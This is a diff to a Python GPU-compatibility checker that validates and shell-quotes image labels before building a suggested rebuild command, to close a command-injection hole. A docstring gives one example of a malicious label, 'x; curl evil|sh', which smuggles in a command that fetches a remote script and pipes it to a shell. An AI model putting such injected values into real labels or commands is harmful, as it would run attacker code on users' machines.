@@ -7,7 +7,9 @@ bases). The rules are gpu/cuda.py's, the same verify applies to an image's cubin
 
 from __future__ import annotations
 
+import json
 import re
+import shlex
 from dataclasses import dataclass
 
 from dockerlaunch.gpu import cuda, labels
@@ -18,6 +20,10 @@ from dockerlaunch.verdict import Finding, Verdict
 COMPILED_PINS = (("transformer_engine", "transformer-engine-torch"), ("apex", "apex"), ("flash_attn", "flash-attn"))
 RECORD_FORMAT = 2
 
+
+
+_ARCH = re.compile(r"[0-9]{1,2}\.[0-9]{1,2}[a-z]?(\+PTX)?", re.ASCII)  # '9.0', '10.0a', '9.0+PTX'
+_STACK_NAME = re.compile(r"[a-z0-9][a-z0-9._+-]{0,95}", re.ASCII)  # as Dockerfiles/stacks.yaml names them
 
 @dataclass(frozen=True)
 class DeviceCode:
@@ -172,15 +178,26 @@ class ImageNeeds:
                    if not cuda.cubin_covers(cubins, cap) and not cuda.ptx_covers(ptx, cap)}
         if lacking:
             pkgs = ", ".join(self.compiled) or "its compiled packages"
-            want = ";".join(sorted({*self.archs, *lacking}, key=cuda.version_tuple))
-            fix = f"dockerlaunch build --stack {self.stack} --cuda-archs '{want}'" if self.stack else \
-                f"rebuild it with --cuda-archs '{want}'"
+            fix = self._archs_fix(lacking)
             gpus = "; ".join(f"{gpus_named(gs)} {gs[0].name} ({cap}, sm_{cap.replace('.', '')})"
                              for cap, gs in lacking.items())
             return Finding("archs", Verdict.FAIL, f"{gpus}: the image's {pkgs} hold code only for {label} "
                            f"({labels.CUDA_ARCHS}): no kernel would run there; {fix}{src}")
         caps = ", ".join(f"{cap} x{len(gs)}" for cap, gs in sorted(by_cap.items()))
         return Finding("archs", Verdict.PASS, f"the image's code ({label}) runs on this host's GPUs ({caps}){src}")
+
+    def _archs_fix(self, lacking: dict[str, list[Gpu]]) -> str:
+        """The rebuild to run. The image's labels are its author's words: a stack name or an arch list that is not
+        of their shape is shown as data and never put in a command (a label `x; curl evil|sh` would run)."""
+        archs = [*(self.archs or ()), *lacking]
+        if not all(_ARCH.fullmatch(a) for a in archs):
+            return f"rebuild it for compute capability {', '.join(sorted(lacking))} (its {labels.CUDA_ARCHS} " \
+                   f"label, {json.dumps(';'.join(self.archs or ()))}, is not an arch list)"
+        want = ";".join(sorted(set(archs), key=cuda.version_tuple))
+        if self.stack and _STACK_NAME.fullmatch(self.stack):
+            return shlex.join(["dockerlaunch", "build", "--stack", self.stack, "--cuda-archs", want])
+        said = f" (its {labels.STACK} label, {json.dumps(self.stack)}, is not a stack name)" if self.stack else ""
+        return f"rebuild it with {shlex.join(['--cuda-archs', want])}{said}"
 
     def _scanned_archs(self, by_cap: dict[str, list[Gpu]], src: str) -> Finding:
         """The same rule per library, from verify's record: a library of the image's own (not an nvidia-* wheel,
